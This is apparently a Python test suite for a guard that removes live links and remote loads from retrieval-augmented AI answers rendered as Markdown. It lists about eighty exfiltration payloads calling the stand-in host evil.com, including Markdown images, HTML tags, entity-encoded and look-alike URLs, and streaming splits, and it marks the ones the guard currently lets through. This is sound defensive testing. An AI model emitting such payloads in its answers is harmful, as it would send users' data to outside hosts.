"""An answer rendered as Markdown has no link and loads nothing that the retrieved documents do not have."""

import pytest
from hypothesis import Phase, example, given, settings
from hypothesis import strategies as st

from retrieval.guard import GuardedStream, guarded
from tests.known_gaps import Gap, known_gap
from tests.retrieval.rendering import live

EVIDENCE = ("See https://docs.example.com/a_(b) and [x](https://ok.example/y?z=1). Also www.fine.example/x",)
ATTACKS = {
    "image": "![a](https://evil.com/?q=secret)",
    "image over two lines": "![a\nb](https://evil.com/?q=secret)",
    "image by reference": "![x][r]\n\n[r]: https://evil.com/secret",
    "collapsed reference": "[r][]\n\n[r]: <https://evil.com/secret>",
    "shortcut reference": "[r]\n\n[r]:\nhttps://evil.com/secret",
    "link": "[t](https://evil.com/secret)",
    "link in brackets": "[t](<https://evil.com/secret>)",
    "link without a scheme": "[t](//evil.com/secret)",
    "link with a title": '[t](https://evil.com/secret "https://ok.example/y?z=1")',
    "image in an image": "![x](![x](https://evil.com/secret))",
    "longer than a known address": "[t](https://ok.example/y?z=1&q=secret)",
    "known host before an at sign": "[t](https://ok.example@evil.com/secret)",
    "autolink": "<https://evil.com/secret>",
    "autolink of mail": "<mailto:x@evil.com?body=secret>",
    "HTML image": "<img src='https://evil.com/secret'>",
    "HTML image over two lines": "<img\nsrc=//evil.com/secret>",
    "HTML link": "<a href='https://evil.com/secret'>t</a>",
    "HTML in a code block that ends": "```\nx\n```\n<img src=https://evil.com/secret>",
    "script": "<script src=https://evil.com/secret></script>",
    "style": "<style>@import url(https://evil.com/secret)</style>",
    "form": "<form action=https://evil.com/secret><button>t</button></form>",
    "comment that does not end": "<!-- --><img src=https://evil.com/secret>",
    "bare address": "https://evil.com/secret",
    "bare address in capitals": "HTTPS://EVIL.COM/secret",
    "bare www": "www.evil.com/secret",
    "bare host with a path": "evil.com/secret",
    "script as a link": "[a](javascript:fetch('secret'))",
    "data as a link": "[a](data:text/html,secret)",
    "data as an image": "![a](data:image/svg+xml;base64,c2VjcmV0)",
    "invisible letter": "!\u200b[a](https://evil.com/secret)",
    "table cell": "| a |\n| - |\n| ![a](https://evil.com/secret) |",
    "list in a quote": "> - [a](https://evil.com/secret)",
    "heading": "# ![a](https://evil.com/secret)",
    "file": "[a](file:///secret)",
    "file share": r"[a](\\evil.com\secret)",
    "punycode": "[a](https://xn--vil-dma.com/secret)",
    "letters of another script": "[a](https://еvil.com/secret)",
    "entity for the colon": "[t](https&colon;//evil.com/secret)",
    "entities for colon and slashes": "[t](https&colon;&sol;&sol;evil.com/secret)",
    "entities by number": "[t](https&#58;&#47;&#47;evil.com/secret)",
    "entities by hexadecimal number": "[t](https&#x3a;&#x2f;&#x2f;evil.com/secret)",
    "entity in an image": "![t](https&colon;&sol;&sol;evil.com/secret)",
    "entities in a reference": "[t][r]\n\n[r]: https&colon;&sol;&sol;evil.com/secret",
    "backslash before the colon": r"[t](https\://evil.com/secret)",
    "backslashes before the slashes": r"[t](https:\/\/evil.com/secret)",
    "backslashes for slashes": r"[t](https:\\evil.com\secret)",
    "single slash": "[t](https:/evil.com/secret)",
    "no slash": "[t](https:evil.com/secret)",
    "entities without a scheme": "[t](&sol;&sol;evil.com/secret)",
    "backslashes without a scheme": r"[t](\/\/evil.com/secret)",
    "path of this site": "[t](/v1/documents/secret)",
    "relative path": "[t](secret)",
    "bare host": "secret.evil.com",
    "bare host in a sentence": "Look at secret.evil.com, please.",
    "bare host with a dot": "secret.evil.com.",
    "bare punycode host": "secret.xn--vil-dma.com",
    "bare host with a port": "secret.evil.com:8443",
    "bare host in Cyrillic": "secret.почта.рф",
    "bare address by number": "http://0x7f.1/secret",
    "bare entities for colon and slashes": "https&colon;&sol;&sol;secret.evil.com",
    "bare entities by number": "https&#58;&#47;&#47;secret.evil.com",
    "bare entity for one slash": "https:&#x2f;/evil.com/secret",
    "bare entity for the dot": "secret.evil&period;com",
    "bare entities in www": "www&period;evil&period;com&sol;secret",
    "bare backslash before the colon": r"https\://evil.com/secret",
    "bare backslashes before the slashes": r"https:\/\/secret.evil.com",
    "bare backslash before the dot": r"www\.evil.com/secret",
    "bare file share": r"\\secret.evil.com\secret",
    "bare host after a known one": "https://docs.example.com/a_(b),secret.evil.com",
    "bare host in bold": "**secret.evil.com**",
    "bare host in brackets": "[secret.evil.com]",
    "message in the punctuation after a known address": "https://ok.example/y?z=1_:__::_`:",
    "mail with a body": "[t](mailto:x&#64;evil.com?body=secret)",
    "telephone": "[t](tel:+4712345678;secret)",
    "other scheme": "ftp://evil.com/secret",
}
"""Each way to make a reader's machine call out, by what it is called."""
_PASSING = frozenset(
    {
        "file share", "backslashes for slashes", "bare host", "bare host in a sentence", "bare host with a dot",
        "bare punycode host", "bare host in Cyrillic", "bare entities for colon and slashes", "bare entities by number",
        "bare entity for the dot", "bare entities in www", "bare backslashes before the slashes", "bare file share",
        "message in the punctuation after a known address", "bare host in bold", "bare host in brackets",
    }
)  # fmt: skip
"""Those that the guard lets through today."""
_PIECES = (
    *"![]()<>:/. \n\t\\?=&'\"*_-a1#|>~`\u200b\x1c\u2003\u00e9",
    "![x](", "](", "[r]: ", "<img src=", "javascript:", "https://evil.com/?q=", "https://ok.example/y?z=1 ",
    "](https://docs.example.com/a_(b))", "www.evil.com/", "word ", "\n\n", "- ", "> ", "| ", "```\n",
)  # fmt: skip
_RENDERED_PIECES = (
    *_PIECES,
    "&colon;",
    "&sol;",
    "&#x2f;",
    "&period;",
    "https",
    "evil.com",
    "\\",
    "://",
    "https://ok.example/y?z=1",
)


def _answers(pieces: tuple[str, ...]) -> st.SearchStrategy[list[str]]:
    return st.lists(st.lists(st.sampled_from(pieces), max_size=6).map("".join), max_size=8)


def _shown(pieces: list[str]) -> list[str]:
    """Return what a reader has at each moment of a stream."""
    stream = GuardedStream(evidence=EVIDENCE)
    shown, moments = "", []
    for piece in [*pieces, None]:
        shown += stream.close() if piece is None else stream.feed(piece)
        moments.append(shown)
    return moments


@pytest.mark.shows("answers.links", without="the guard")
@pytest.mark.parametrize("kind", ATTACKS)
def test_without_the_guard_a_renderer_makes_it_live(kind: str) -> None:
    assert live(ATTACKS[kind], EVIDENCE)


@pytest.mark.shows("answers.links")
@pytest.mark.parametrize(
    "kind",
    [pytest.param(each, marks=[known_gap(Gap.LINKS_A_RENDERER_MAKES)] if each in _PASSING else []) for each in ATTACKS],
)
def test_L29_L61_no_link_that_a_renderer_makes_survives(kind: str) -> None:
    assert live(guarded(ATTACKS[kind], evidence=EVIDENCE), EVIDENCE) == []


def test_addresses_of_the_documents_stay_live() -> None:
    answer = "Read https://docs.example.com/a_(b), [here](https://ok.example/y?z=1) or www.fine.example/x!"
    assert live(guarded(answer, evidence=EVIDENCE)) != []
    assert live(guarded(answer, evidence=EVIDENCE), EVIDENCE) == []


@pytest.mark.shows("answers.links")
@pytest.mark.parametrize("kind", [each for each in ATTACKS if each not in _PASSING])
def test_L29_a_stream_shows_no_live_link_at_any_moment(kind: str) -> None:
    """Cut after every character."""
    assert [live(shown, EVIDENCE) for shown in set(_shown(list(ATTACKS[kind]))) if live(shown, EVIDENCE)] == []


@given(_answers(_PIECES))
def test_L29_no_made_up_answer_has_a_live_link_at_any_moment(pieces: list[str]) -> None:
    assert [shown for shown in _shown(pieces) if live(shown, EVIDENCE)] == []


@known_gap(Gap.LINKS_A_RENDERER_MAKES)
@settings(phases=[Phase.explicit, Phase.generate])
@example(["https&colon;&sol;&sol;evil.com"])
@given(_answers(_RENDERED_PIECES))
def test_L61_no_made_up_answer_has_a_link_a_renderer_decodes(pieces: list[str]) -> None:
    assert [shown for shown in _shown(pieces) if live(shown, EVIDENCE)] == []
